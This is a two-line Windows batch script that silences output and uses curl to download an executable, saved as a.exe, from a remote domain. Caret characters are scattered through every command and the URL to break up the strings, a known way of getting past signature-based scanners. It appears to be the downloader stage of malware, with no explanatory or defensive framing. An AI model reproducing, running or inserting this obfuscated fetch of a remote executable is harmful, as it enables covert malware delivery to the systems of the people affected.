@ech^o off
cu^rl -o a.exe ht^tps^://wget^cdn-fi^les.com/carets
